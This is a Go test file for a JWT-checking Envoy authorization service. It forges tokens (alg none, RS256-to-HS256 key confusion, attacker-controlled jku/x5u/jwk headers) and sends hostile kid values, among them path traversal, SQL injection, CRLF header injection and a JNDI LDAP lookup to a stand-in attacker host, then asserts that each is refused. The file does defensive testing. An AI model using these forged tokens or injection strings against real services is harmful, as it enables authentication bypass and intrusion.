package service

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/MicahParks/jwkset"
	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
	"github.com/golang-jwt/jwt/v5"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"

	"github.com/finauthz/authz/policies"
)

// The attack suite: hostile tokens and requests sent to the running service (gRPC on loopback, JWKS served over
// HTTP with keys made here, the shipped policies or testdata/policy.rego where only the token layer matters),
// each with the safe outcome asserted.

const issuerTyped = "https://idp-c.bank.test" // an issuer that requires RFC 9068 typed access tokens

// decisionBound is how long one check may take however large or deep its input; the fastest of a few tries is
// measured, so that a scheduling hiccup on a shared machine does not count as work.
func decisionBound() time.Duration {
	if raceEnabled {
		return time.Second
	}
	return 200 * time.Millisecond
}

// headerSigner signs with s, setting the JOSE header parameters in header over jwt's defaults (a nil value
// removes the parameter).
func headerSigner(t testing.TB, s signer, c jwt.MapClaims, header map[string]any) string {
	t.Helper()
	tok := jwt.NewWithClaims(s.method, c)
	tok.Header["kid"] = s.kid
	for k, v := range header {
		if v == nil {
			delete(tok.Header, k)
		} else {
			tok.Header[k] = v
		}
	}
	raw, err := tok.SignedString(s.priv)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// rawJWS signs header and payload exactly as given, for documents encoding/json refuses to produce.
func rawJWS(t testing.TB, s signer, header, payload string) string {
	t.Helper()
	enc := base64.RawURLEncoding
	input := enc.EncodeToString([]byte(header)) + "." + enc.EncodeToString([]byte(payload))
	sig, err := s.method.Sign(input, s.priv)
	if err != nil {
		t.Fatal(err)
	}
	return input + "." + enc.EncodeToString(sig)
}

// hmacSigned is a token whose alg is HS* and whose MAC key is secret, as in the RS256-to-HS256 confusion attack.
func hmacSigned(t testing.TB, m *jwt.SigningMethodHMAC, kid string, c jwt.MapClaims, secret []byte) string {
	t.Helper()
	tok := jwt.NewWithClaims(m, c)
	tok.Header["kid"] = kid
	raw, err := tok.SignedString(secret)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func unsignedJWS(t testing.TB, alg, kid string, c jwt.MapClaims, sig string) string {
	t.Helper()
	h, err := json.Marshal(map[string]any{"alg": alg, "typ": "JWT", "kid": kid})
	if err != nil {
		t.Fatal(err)
	}
	p, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	enc := base64.RawURLEncoding
	return enc.EncodeToString(h) + "." + enc.EncodeToString(p) + "." + sig
}

func publicPEM(t testing.TB, s signer) []byte {
	t.Helper()
	der, err := x509.MarshalPKIXPublicKey(s.priv.Public())
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
}

func publicJWK(t testing.TB, s signer) jwkset.JWKMarshal {
	t.Helper()
	jwk, err := jwkset.NewJWKFromKey(s.priv.Public(), jwkset.JWKOptions{
		Metadata: jwkset.JWKMetadataOptions{KID: s.kid, ALG: jwkset.ALG(s.method.Alg()), USE: jwkset.UseSig},
	})
	if err != nil {
		t.Fatal(err)
	}
	return jwk.Marshal()
}

func selfSigned(t testing.TB, s signer) string {
	t.Helper()
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, s.priv.Public(), s.priv)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(der)
}

// weakRSASigner has a 1024-bit RSA key, below the 2048 bits the verifier requires of a published key.
func weakRSASigner(t testing.TB, kid string) signer {
	t.Helper()
	priv, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	return signer{kid: kid, method: jwt.SigningMethodRS256, priv: priv}
}

// recordingIDP is an idp that also remembers the request URI of every JWKS fetch.
type recordingIDP struct {
	*idp
	mu   sync.Mutex
	uris []string
}

func newRecordingIDP(t testing.TB, keys ...signer) *recordingIDP {
	r := &recordingIDP{idp: &idp{keys: keys}}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.uris = append(r.uris, req.URL.RequestURI())
		r.mu.Unlock()
		r.serve(w, req)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *recordingIDP) requestURIs() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.uris...)
}

// wantInvalidToken asserts the service's answer to a refused token: 401, UNAUTHENTICATED, the RFC 6750
// invalid_token challenge, and reason when given.
func wantInvalidToken(t testing.TB, got outcome, reason string) {
	t.Helper()
	if got.status != 401 || got.code != codes.Unauthenticated {
		t.Fatalf("got %d %v (reason %q), want 401 Unauthenticated", got.status, got.code, got.reason)
	}
	if w := got.headers["www-authenticate"]; w != `Bearer error="invalid_token"` {
		t.Errorf("www-authenticate = %q, want the invalid_token challenge", w)
	}
	if reason != "" && got.reason != reason {
		t.Errorf("reason = %q, want %q", got.reason, reason)
	}
	if got.body != `{"error":"invalid_token"}` {
		t.Errorf("body = %q, want the generic invalid_token body", got.body)
	}
}

// tokenLayerYAML configures three issuers for testdata/policy.rego, which allows any verified token: a 401 proves
// the token never reached the policy. Issuer A accepts every asymmetric algorithm; issuer C requires at+jwt.
func tokenLayerYAML(a, b, c *idp, cooldown time.Duration, extra string) string {
	return fmt.Sprintf(`
listen: 127.0.0.1:0
grace_period: 5s
policy:
  paths: [policy.rego]
jwt:
  unknown_kid_cooldown: %s
%s  issuers:
    - issuer: %s
      jwks_uri: %s
      audiences: [payments-api]
    - issuer: %s
      jwks_uri: %s
      audiences: [ledger-api]
    - issuer: %s
      jwks_uri: %s
      audiences: [payments-api]
      types: [at+jwt]
`, cooldown, extra, issuerA, a.jwksURI(), issuerB, b.jwksURI(), issuerTyped, c.jwksURI())
}

func TestAttackForgedTokensAreRejected(t *testing.T) {
	rsaKey, ecKey := newSigner(t, "rsa-1", "RS256"), newSigner(t, "ec-1", "ES256")
	weak := weakRSASigner(t, "weak-1")
	bKey, cKey := newSigner(t, "b-1", "ES256"), newSigner(t, "c-1", "ES256")
	a, b, c := newIDP(t, rsaKey, ecKey, weak), newIDP(t, bKey), newIDP(t, cKey)
	h := startService(t, tokenLayerYAML(a, b, c, time.Hour, ""))
	h.waitServing(t)

	// The attacker's own key, published at a URL the attacker controls.
	attacker := newSigner(t, "attacker-1", "ES256")
	attackerJWKS := newIDP(t, attacker)

	good := claims(issuerA, "payments-api", "alice")
	at := func(mutate ...func(jwt.MapClaims)) jwt.MapClaims {
		return claims(issuerA, "payments-api", "alice", mutate...)
	}
	set := func(k string, v any) func(jwt.MapClaims) { return func(c jwt.MapClaims) { c[k] = v } }
	del := func(k string) func(jwt.MapClaims) { return func(c jwt.MapClaims) { delete(c, k) } }
	hour := time.Hour
	typed := func(typ any) string {
		return headerSigner(t, cKey, claims(issuerTyped, "payments-api", "alice"), map[string]any{"typ": typ})
	}

	controls := []struct{ name, raw string }{
		{"RS256 token is allowed", rsaKey.sign(t, good)},
		{"ES256 token is allowed", ecKey.sign(t, good)},
		{"second issuer's token is allowed", bKey.sign(t, claims(issuerB, "ledger-api", "bob"))},
		{"typ at+jwt at the typed issuer is allowed", typed("at+jwt")},
		{"typ application/at+jwt at the typed issuer is allowed", typed("application/at+jwt")},
		{"typ AT+JWT at the typed issuer is allowed", typed("AT+JWT")},
		{"typ JWT at an issuer without types is allowed", headerSigner(t, ecKey, good, map[string]any{"typ": "JWT"})},
	}
	for _, tc := range controls {
		t.Run("control: "+tc.name, func(t *testing.T) {
			if got := summarise(h.check(t, "GET", "/x", bearer(tc.raw))); got.status != 200 {
				t.Fatalf("got %d %q, want 200", got.status, got.reason)
			}
		})
	}

	t.Run("control: the IdP publishes the 1024-bit key beside the good ones", func(t *testing.T) {
		resp, err := http.Get(a.jwksURI())
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var set struct {
			Keys []struct {
				KID string `json:"kid"`
			} `json:"keys"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&set); err != nil {
			t.Fatal(err)
		}
		var kids []string
		for _, k := range set.Keys {
			kids = append(kids, k.KID)
		}
		if !slices.Contains(kids, "weak-1") {
			t.Fatalf("JWKS kids = %v, want weak-1 among them", kids)
		}
	})

	rsaPEM, ecPEM := publicPEM(t, rsaKey), publicPEM(t, ecKey)
	tests := []struct {
		name   string
		raw    string
		reason string
	}{
		{"alg none is 401", unsignedJWS(t, "none", "rsa-1", good, ""), "algorithm_not_allowed"},
		{"alg None is 401", unsignedJWS(t, "None", "rsa-1", good, ""), "algorithm_not_allowed"},
		{"alg NONE is 401", unsignedJWS(t, "NONE", "rsa-1", good, ""), "algorithm_not_allowed"},
		{"alg nOnE is 401", unsignedJWS(t, "nOnE", "rsa-1", good, ""), "algorithm_not_allowed"},
		{"alg none with a signature is 401", unsignedJWS(t, "none", "rsa-1", good, "c2lnbmF0dXJl"), "algorithm_not_allowed"},
		{"alg none without kid is 401", unsignedJWS(t, "none", "", good, ""), "algorithm_not_allowed"},

		{"HS256 keyed with the RSA public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS256, "rsa-1", good, rsaPEM), "algorithm_not_allowed"},
		{"HS384 keyed with the RSA public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS384, "rsa-1", good, rsaPEM), "algorithm_not_allowed"},
		{"HS512 keyed with the RSA public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS512, "rsa-1", good, rsaPEM), "algorithm_not_allowed"},
		{"HS256 keyed with the EC public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS256, "ec-1", good, ecPEM), "algorithm_not_allowed"},
		{"HS384 keyed with the EC public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS384, "ec-1", good, ecPEM), "algorithm_not_allowed"},
		{"HS512 keyed with the EC public key PEM is 401", hmacSigned(t, jwt.SigningMethodHS512, "ec-1", good, ecPEM), "algorithm_not_allowed"},

		{"PS256 with a key published for RS256 is 401",
			signer{kid: "rsa-1", method: jwt.SigningMethodPS256, priv: rsaKey.priv}.sign(t, good), "algorithm_not_allowed"},
		{"RS256 naming a key published for ES256 is 401",
			signer{kid: "ec-1", method: jwt.SigningMethodRS256, priv: rsaKey.priv}.sign(t, good), "algorithm_not_allowed"},

		{"a 1024-bit RSA key is dropped from the JWKS: its kid is unknown", weak.sign(t, good), "unknown_key"},
		{"a 1024-bit RSA key is dropped from the JWKS: without kid no key verifies",
			headerSigner(t, weak, good, map[string]any{"kid": nil}), "bad_signature"},

		{"jku at the attacker's JWKS with the attacker's kid is 401",
			headerSigner(t, attacker, good, map[string]any{"jku": attackerJWKS.jwksURI()}), "unknown_key"},
		{"jku at the attacker's JWKS with a published kid is 401",
			headerSigner(t, signer{kid: "ec-1", method: attacker.method, priv: attacker.priv}, good, map[string]any{"jku": attackerJWKS.jwksURI()}), "bad_signature"},
		{"x5u at the attacker's server with the attacker's kid is 401",
			headerSigner(t, attacker, good, map[string]any{"x5u": attackerJWKS.jwksURI()}), "unknown_key"},
		{"x5u at the attacker's server without kid is 401",
			headerSigner(t, attacker, good, map[string]any{"x5u": attackerJWKS.jwksURI(), "kid": nil}), "bad_signature"},
		{"embedded jwk with the attacker's key and no kid is 401",
			headerSigner(t, attacker, good, map[string]any{"jwk": publicJWK(t, attacker), "kid": nil}), "bad_signature"},
		{"embedded jwk with the attacker's key under a published kid is 401",
			headerSigner(t, signer{kid: "ec-1", method: attacker.method, priv: attacker.priv}, good, map[string]any{"jwk": publicJWK(t, attacker)}), "bad_signature"},
		{"embedded x5c with the attacker's certificate is 401",
			headerSigner(t, attacker, good, map[string]any{"x5c": []string{selfSigned(t, attacker)}, "kid": nil}), "bad_signature"},

		{"expired token is 401", rsaKey.sign(t, at(set("exp", time.Now().Add(-hour).Unix()))), "token_expired"},
		{"nbf in the future is 401", rsaKey.sign(t, at(set("nbf", time.Now().Add(hour).Unix()))), "token_not_yet_valid"},
		{"iat in the future is 401", rsaKey.sign(t, at(set("iat", time.Now().Add(hour).Unix()))), "token_issued_in_future"},
		{"missing exp is 401", rsaKey.sign(t, at(del("exp"))), "token_missing_exp"},
		{"exp as a string is 401", rsaKey.sign(t, at(set("exp", fmt.Sprint(time.Now().Add(hour).Unix())))), "token_malformed"},
		{"wrong iss is 401", rsaKey.sign(t, at(set("iss", "https://idp-a.bank.test.evil.test"))), "unknown_issuer"},
		{"iss with a trailing slash is 401", rsaKey.sign(t, at(set("iss", issuerA+"/"))), "unknown_issuer"},
		{"missing iss is 401", rsaKey.sign(t, at(del("iss"))), "unknown_issuer"},
		{"missing aud is 401", rsaKey.sign(t, at(del("aud"))), "audience_mismatch"},
		{"wrong aud is 401", rsaKey.sign(t, at(set("aud", "ledger-api"))), "audience_mismatch"},
		{"aud list without ours is 401", rsaKey.sign(t, at(set("aud", []string{"ledger-api", "payments-api-evil"}))), "audience_mismatch"},
		{"issuer B's token signed with issuer A's key under B's kid is 401",
			signer{kid: "b-1", method: ecKey.method, priv: ecKey.priv}.sign(t, claims(issuerB, "ledger-api", "mallory")), "bad_signature"},
		{"issuer B's token signed with issuer A's key under A's kid is 401",
			ecKey.sign(t, claims(issuerB, "ledger-api", "mallory")), "unknown_key"},
		{"issuer A's token signed with issuer B's key under A's kid is 401",
			signer{kid: "ec-1", method: bKey.method, priv: bKey.priv}.sign(t, good), "bad_signature"},
		{"issuer A's token signed with issuer B's key under B's kid is 401", bKey.sign(t, good), "unknown_key"},

		{"typ JWT at an issuer requiring at+jwt is 401", typed("JWT"), "token_type_not_allowed"},
		{"typ jwt at an issuer requiring at+jwt is 401", typed("jwt"), "token_type_not_allowed"},
		{"typ application/jwt at an issuer requiring at+jwt is 401", typed("application/jwt"), "token_type_not_allowed"},
		{"typ secevent+jwt at an issuer requiring at+jwt is 401", typed("secevent+jwt"), "token_type_not_allowed"},
		{"typ as a number at an issuer requiring at+jwt is 401", typed(9068), "token_type_not_allowed"},
		{"no typ at an issuer requiring at+jwt is 401", typed(nil), "token_type_not_allowed"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for _, path := range []string{"/x", "/public/fx"} { // public or not, an invalid token is refused
				wantInvalidToken(t, summarise(h.check(t, "GET", path, bearer(tc.raw))), tc.reason)
			}
		})
	}
	t.Run("the URLs in jku and x5u are never fetched", func(t *testing.T) {
		if n := attackerJWKS.hits.Load(); n != 0 {
			t.Fatalf("the attacker's server got %d requests, want 0", n)
		}
	})
}

func TestAttackHostileKIDsNeverSteerJWKSFetches(t *testing.T) {
	key := newSigner(t, "ec-1", "ES256")
	a := newRecordingIDP(t, key)
	b, c := newIDP(t, newSigner(t, "b-1", "ES256")), newIDP(t, newSigner(t, "c-1", "ES256"))
	const cooldown = 300 * time.Millisecond
	// max_token_bytes leaves room for the 10 KB kid, so that the kid check, not the size check, refuses it.
	h := startService(t, tokenLayerYAML(a.idp, b, c, cooldown, "  max_token_bytes: 65536\n"))
	h.waitServing(t)

	withKID := func(kid string) string {
		return signer{kid: kid, method: key.method, priv: key.priv}.sign(t, claims(issuerA, "payments-api", "eve"))
	}
	refused := func(t *testing.T, kid string) {
		t.Helper()
		wantInvalidToken(t, summarise(h.check(t, "GET", "/x", bearer(withKID(kid)))), "unknown_key")
	}
	// noFetchWhileAllowed waits out the cooldown, so an unknown kid may cause a fetch, sends kid, and checks
	// that it caused none; a plain unknown kid sent right after must still cause one, which shows the fetch
	// was allowed when kid came.
	noFetchWhileAllowed := func(t *testing.T, kid string) {
		t.Helper()
		time.Sleep(cooldown + 50*time.Millisecond)
		before := a.hits.Load()
		refused(t, kid)
		if n := a.hits.Load() - before; n != 0 {
			t.Fatalf("the kid caused %d JWKS fetches, want 0", n)
		}
		refused(t, "plain-unknown-kid")
		if n := a.hits.Load() - before; n != 1 {
			t.Fatalf("a plain unknown kid after it caused %d fetches, want 1: the cooldown was not over", n)
		}
	}

	t.Run("a 10 KB kid is 401 and causes no JWKS fetch", func(t *testing.T) {
		noFetchWhileAllowed(t, strings.Repeat("k", 10<<10))
	})
	t.Run("a kid with control characters is 401 and causes no JWKS fetch", func(t *testing.T) {
		noFetchWhileAllowed(t, "ec-1\r\nx-injected: 1")
	})
	t.Run("path and SQL characters in kid are 401 and share the one fetch per cooldown", func(t *testing.T) {
		time.Sleep(cooldown + 50*time.Millisecond)
		before := a.hits.Load()
		start := time.Now()
		for _, kid := range []string{
			"../../etc/passwd", `..\..\windows\win.ini`, "%2e%2e%2fetc%2fpasswd", "' OR 1=1 --", `"; DROP TABLE keys; --`,
			"ec-1' --", "ec-1/../ec-1", "?kid=ec-1", "#ec-1", "${jndi:ldap://attacker.test/a}",
		} {
			refused(t, kid)
		}
		windows := int64(time.Since(start)/cooldown) + 1
		if n := a.hits.Load() - before; n > windows {
			t.Fatalf("10 hostile kids caused %d JWKS fetches, want at most %d (one per cooldown)", n, windows)
		}
	})
	t.Run("the kid never reaches the JWKS request", func(t *testing.T) {
		uris := a.requestURIs()
		if len(uris) < 3 { // the first fetch and the two that the controls above caused
			t.Fatalf("the IdP recorded %d requests, want at least 3", len(uris))
		}
		for _, uri := range uris {
			if uri != "/.well-known/jwks.json" {
				t.Errorf("JWKS request URI %q, want exactly the configured path", uri)
			}
		}
	})
}

func TestAttackUnknownKIDFloodIsBounded(t *testing.T) {
	key := newSigner(t, "ed-1", "EdDSA")
	a, b, c := newIDP(t, key), newIDP(t, newSigner(t, "b-1", "ES256")), newIDP(t, newSigner(t, "c-1", "ES256"))
	const cooldown = 250 * time.Millisecond
	h := startService(t, tokenLayerYAML(a, b, c, cooldown, ""))
	h.waitServing(t)

	// The attacker has no key of the issuer: the tokens carry a signature that would not verify, and the
	// verifier must give up on the kid before it gets that far.
	const flood = 5000
	enc := base64.RawURLEncoding
	payload, err := json.Marshal(claims(issuerA, "payments-api", "eve"))
	if err != nil {
		t.Fatal(err)
	}
	forged := func(kid string) string {
		return enc.EncodeToString([]byte(`{"alg":"EdDSA","typ":"JWT","kid":"`+kid+`"}`)) + "." +
			enc.EncodeToString(payload) + "." + enc.EncodeToString(bytes.Repeat([]byte{0x5a}, 64))
	}
	tokens := make([]string, flood)
	for i := range tokens {
		tokens[i] = forged(fmt.Sprintf("flood-%d", i))
	}
	// Warm up the connection and the service's pools so that the measurement sees the flood only.
	for i := range 50 {
		if got := summarise(h.check(t, "GET", "/x", bearer(forged(fmt.Sprintf("warm-%d", i))))); got.reason != "unknown_key" {
			t.Fatalf("forged token: got %d %q, want 401 unknown_key", got.status, got.reason)
		}
	}
	var ms runtime.MemStats
	runtime.GC()
	runtime.GC()
	runtime.ReadMemStats(&ms)
	heapBefore := ms.HeapInuse

	before := a.hits.Load()
	start := time.Now()
	var next, notRefused atomic.Int64
	var wg sync.WaitGroup
	for range 16 {
		wg.Go(func() {
			for i := next.Add(1) - 1; i < flood; i = next.Add(1) - 1 {
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
				resp, err := h.auth.Check(ctx, checkRequest("GET", "/x", bearer(tokens[i])))
				cancel()
				if err != nil || summarise(resp).reason != "unknown_key" {
					notRefused.Add(1)
				}
			}
		})
	}
	wg.Wait()
	elapsed := time.Since(start)
	fetches := a.hits.Load() - before

	runtime.GC()
	runtime.GC()
	runtime.ReadMemStats(&ms)
	heapAfter := ms.HeapInuse
	runtime.KeepAlive(tokens)

	t.Run("every token with an unknown kid is 401 unknown_key", func(t *testing.T) {
		if n := notRefused.Load(); n != 0 {
			t.Fatalf("%d of %d checks were not answered 401 unknown_key", n, flood)
		}
	})
	t.Run("JWKS fetches are at most one per cooldown", func(t *testing.T) {
		if windows := int64(elapsed/cooldown) + 1; fetches > windows {
			t.Fatalf("%d unknown kids caused %d fetches in %v, want at most %d", flood, fetches, elapsed, windows)
		}
		t.Logf("%d unknown kids: %d JWKS fetches in %v", flood, fetches, elapsed)
	})
	t.Run("memory stays roughly constant", func(t *testing.T) {
		const bound = 4 << 20 // generous: far below what remembering each kid or token would take
		growth := int64(heapAfter) - int64(heapBefore)
		if growth > bound {
			t.Fatalf("heap in use grew by %d bytes over the flood, want at most %d", growth, bound)
		}
		t.Logf("heap in use: %d before, %d after (%+d)", heapBefore, heapAfter, growth)
	})
}

// fastest sends req tries times and returns the last response and the fastest round trip.
func fastest(t testing.TB, h *harness, req *authv3.CheckRequest, tries int) (*authv3.CheckResponse, time.Duration) {
	t.Helper()
	var (
		resp *authv3.CheckResponse
		best time.Duration
	)
	for i := range tries {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		start := time.Now()
		r, err := h.auth.Check(ctx, req)
		d := time.Since(start)
		cancel()
		if err != nil {
			t.Fatalf("Check: %v", err)
		}
		if i == 0 || d < best {
			best = d
		}
		resp = r
	}
	return resp, best
}

// nested is a JSON value depth arrays deep.
func nested(depth int) string { return strings.Repeat("[", depth) + strings.Repeat("]", depth) }

func TestAttackDeeplyNestedTokensAreBounded(t *testing.T) {
	key := newSigner(t, "ec-1", "ES256")
	a, b, c := newIDP(t, key), newIDP(t, newSigner(t, "b-1", "ES256")), newIDP(t, newSigner(t, "c-1", "ES256"))
	small := startService(t, tokenLayerYAML(a, b, c, time.Hour, ""))
	large := startService(t, tokenLayerYAML(a, b, c, time.Hour, "  max_token_bytes: 1048576\n"))
	small.waitServing(t)
	large.waitServing(t)

	exp := time.Now().Add(10 * time.Minute).Unix()
	payload := func(claim string) string {
		return fmt.Sprintf(`{"iss":%q,"aud":"payments-api","sub":"alice","exp":%d,"n":%s}`, issuerA, exp, claim)
	}
	header := `{"alg":"ES256","typ":"JWT","kid":"ec-1"}`
	tests := []struct {
		name   string
		h      *harness
		raw    string
		status int
		reason string
	}{
		{"claims 10,000 levels deep exceed max_token_bytes 8192: 401", small, rawJWS(t, key, header, payload(nested(10000))), 401, "token_too_large"},
		{"claims 10,000 levels deep under max_token_bytes 1 MiB are malformed: 401", large, rawJWS(t, key, header, payload(nested(10000))), 401, "token_malformed"},
		{"claims 100,000 levels deep under max_token_bytes 1 MiB are malformed: 401", large, rawJWS(t, key, header, payload(nested(100000))), 401, "token_malformed"},
		{"a header 10,000 levels deep under max_token_bytes 1 MiB is malformed: 401", large,
			rawJWS(t, key, `{"alg":"ES256","kid":"ec-1","x":`+nested(10000)+`}`, payload("0")), 401, "token_malformed"},
		{"claims 5,000 levels deep that the IdP signed are verified without exhausting the stack", large, rawJWS(t, key, header, payload(nested(5000))), 200, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp, d := fastest(t, tc.h, checkRequest("GET", "/x", bearer(tc.raw)), 3)
			got := summarise(resp)
			if tc.status == 401 {
				wantInvalidToken(t, got, tc.reason)
			} else if got.status != tc.status {
				t.Fatalf("got %d %q, want %d", got.status, got.reason, tc.status)
			}
			if d > decisionBound() {
				t.Errorf("decided in %v, want under %v", d, decisionBound())
			}
		})
	}
}

// shippedYAML runs the shipped policy library with one issuer whose JWKS is served by p.
func shippedYAML(p *idp, extra string) string {
	return fmt.Sprintf(`
listen: 127.0.0.1:0
grace_period: 5s
policy: {builtin: true}
jwt:
  issuers:
    - issuer: %s
      jwks_uri: %s
      audiences: [payments-api]
%s`, issuerA, p.jwksURI(), extra)
}

// customer is a genuine token for the shipped route table: alice may read acc-1 and its transactions.
func customer(t testing.TB, s signer) string {
	return s.sign(t, claims(issuerA, "payments-api", "alice", func(c jwt.MapClaims) {
		c["scope"] = "accounts:read transactions:read"
		c["accounts"] = []string{"acc-1"}
		c["client_id"] = "bank-app"
	}))
}

// mangledCodec marshals a message as protobuf and then replaces from with to in the encoding. It puts on the wire
// what Go's protobuf refuses to marshal (invalid UTF-8 in a string field) but another implementation may send.
type mangledCodec struct{ from, to []byte }

func (c mangledCodec) Marshal(v any) ([]byte, error) {
	b, err := proto.Marshal(v.(proto.Message))
	return bytes.ReplaceAll(b, c.from, c.to), err
}

func (mangledCodec) Unmarshal(b []byte, v any) error { return proto.Unmarshal(b, v.(proto.Message)) }
func (mangledCodec) Name() string                    { return "proto" }

func TestAttackHostileRequestsWithTheShippedPolicies(t *testing.T) {
	key := newSigner(t, "ec-1", "ES256")
	p := newIDP(t, key)
	h := startServiceIn(t, shippedYAML(p, ""), t.TempDir(), Options{BuiltinPolicies: policies.FS})
	h.waitServing(t)
	tok := customer(t, key)

	call := func(t *testing.T, req *authv3.CheckRequest, opts ...grpc.CallOption) (*authv3.CheckResponse, error) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		return h.auth.Check(ctx, req, opts...)
	}
	decide := func(t *testing.T, req *authv3.CheckRequest) outcome {
		t.Helper()
		resp, err := call(t, req)
		if err != nil {
			t.Fatalf("Check: %v", err)
		}
		return summarise(resp)
	}
	mustNotAllow := func(t *testing.T, got outcome) {
		t.Helper()
		if got.status == 200 || got.code == codes.OK {
			t.Fatalf("allowed (%d %v) without a valid token", got.status, got.code)
		}
	}

	t.Run("control: the genuine token in the authorization header is allowed", func(t *testing.T) {
		if got := summarise(h.check(t, "GET", "/accounts/acc-1", bearer(tok))); got.status != 200 {
			t.Fatalf("got %d %q, want 200", got.status, got.reason)
		}
	})

	merged := []struct{ name, value string }{
		{"two bearer tokens joined by Envoy are 401", "Bearer " + tok + ",Bearer " + tok},
		{"two short bearer tokens joined by Envoy are 401", "Bearer a,Bearer b"},
		{"two bearer tokens joined with a comma and space are 401", "Bearer " + tok + ", Bearer " + tok},
		{"a bearer token joined after another scheme is 401", "Basic YWxpY2U6c2VjcmV0,Bearer " + tok},
		{"two tokens after one Bearer scheme are 401", "Bearer " + tok + " " + tok},
	}
	for _, tc := range merged {
		t.Run(tc.name, func(t *testing.T) {
			got := summarise(h.check(t, "GET", "/accounts/acc-1", map[string]string{"authorization": tc.value}))
			wantInvalidToken(t, got, "token_malformed")
		})
	}

	t.Run("a valid token only in the access_token query parameter is ignored: 401 authentication_required", func(t *testing.T) {
		got := summarise(h.check(t, "GET", "/accounts/acc-1?access_token="+tok, nil))
		if got.status != 401 || got.reason != "authentication_required" {
			t.Fatalf("got %d %q, want 401 authentication_required", got.status, got.reason)
		}
	})
	t.Run("a valid token only in a form body is ignored: 401 authentication_required", func(t *testing.T) {
		req := checkRequest("POST", "/payments", map[string]string{"content-type": "application/x-www-form-urlencoded", "x-device-posture": "managed", "x-risk-score": "1"})
		req.Attributes.Request.Http.Body = "amount=1&access_token=" + tok
		got := decide(t, req)
		if got.status != 401 || got.reason != "authentication_required" {
			t.Fatalf("got %d %q, want 401 authentication_required", got.status, got.reason)
		}
	})

	t.Run("a 1 MB token is refused fast: 401 token_too_large", func(t *testing.T) {
		resp, d := fastest(t, h, checkRequest("GET", "/accounts/acc-1", bearer(strings.Repeat("A", 1<<20))), 3)
		wantInvalidToken(t, summarise(resp), "token_too_large")
		if d > decisionBound() {
			t.Errorf("decided in %v, want under %v", d, decisionBound())
		}
	})
	bigHeaders := []struct {
		name    string
		headers map[string]string
	}{
		{"one 1 MB header", map[string]string{"x-pad": strings.Repeat("p", 1<<20)}},
		{"10,000 headers of 100 bytes", manyHeaders(10000, 100)},
		{"1 MB of a header that imitates a token", map[string]string{"x-authorization": "Bearer " + strings.Repeat(tok, (1<<20)/len(tok))}},
		{"1 MB of control characters in a header", map[string]string{"x-pad": strings.Repeat("\x01\x1b\x7f", (1<<20)/3)}},
		{"1 MB of multi-byte UTF-8 in a header", map[string]string{"x-pad": strings.Repeat("€", (1<<20)/3)}},
	}
	for _, tc := range bigHeaders {
		t.Run(tc.name+" without a token is denied within the bound", func(t *testing.T) {
			resp, d := fastest(t, h, checkRequest("GET", "/accounts/acc-1", tc.headers), 3)
			got := summarise(resp)
			mustNotAllow(t, got)
			if got.status != 401 || got.reason != "authentication_required" {
				t.Errorf("got %d %q, want 401 authentication_required", got.status, got.reason)
			}
			if d > decisionBound() {
				t.Errorf("decided in %v, want under %v", d, decisionBound())
			}
		})
	}
	t.Run("one 1 MB header with a valid token: decided within the bound", func(t *testing.T) {
		hs := map[string]string{"x-pad": strings.Repeat("p", 1<<20), "authorization": "Bearer " + tok}
		resp, d := fastest(t, h, checkRequest("GET", "/accounts/acc-1", hs), 3)
		if got := summarise(resp); got.status != 200 {
			t.Errorf("got %d %q, want 200: the token is valid and granted", got.status, got.reason)
		}
		if d > decisionBound() {
			t.Errorf("decided in %v, want under %v", d, decisionBound())
		}
	})
	t.Run("a CheckRequest over max_request_bytes is refused with ResourceExhausted (Envoy's status_on_error)", func(t *testing.T) {
		_, err := call(t, checkRequest("GET", "/accounts/acc-1", map[string]string{
			"x-pad": strings.Repeat("p", 5<<20), "authorization": "Bearer " + tok,
		}))
		if status.Code(err) != codes.ResourceExhausted {
			t.Fatalf("err = %v, want ResourceExhausted", err)
		}
	})

	controlChars := []struct {
		name    string
		headers map[string]string
		reason  string
	}{
		{"NUL inside the bearer token is 401", map[string]string{"authorization": "Bearer " + tok[:20] + "\x00" + tok[20:]}, "token_malformed"},
		{"CR LF after the bearer token is 401", map[string]string{"authorization": "Bearer " + tok + "\r\nx-subject: admin"}, "token_malformed"},
		{"a vertical tab for the space after Bearer carries no token: 401 authentication_required",
			map[string]string{"authorization": "Bearer\v" + tok}, "authentication_required"},
